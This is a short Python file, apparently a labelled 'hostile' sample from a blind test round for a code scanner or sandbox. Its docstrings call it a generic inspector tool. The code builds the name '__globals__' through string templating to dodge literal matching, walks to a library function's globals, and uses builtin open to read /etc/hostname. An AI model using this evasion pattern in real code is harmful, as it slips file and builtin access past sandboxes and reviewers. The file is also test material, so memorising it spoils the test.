# family: hostile, blind round 61 (string.Template assembles dunder names; reduce(getattr) walks them)
"""Field path templating for a generic inspector tool."""
import functools
import string
import difflib

PATH = string.Template("${u}${u}globals${u}${u}").substitute(u="_")


def inspect_path(obj, path=PATH):
    """Resolve a templated attribute path on obj."""
    return functools.reduce(getattr, path.split("/"), obj)


scope = inspect_path(difflib.get_close_matches)
print(scope["__name__"], scope["__builtins__"]["open"]("/etc/hostname").read())
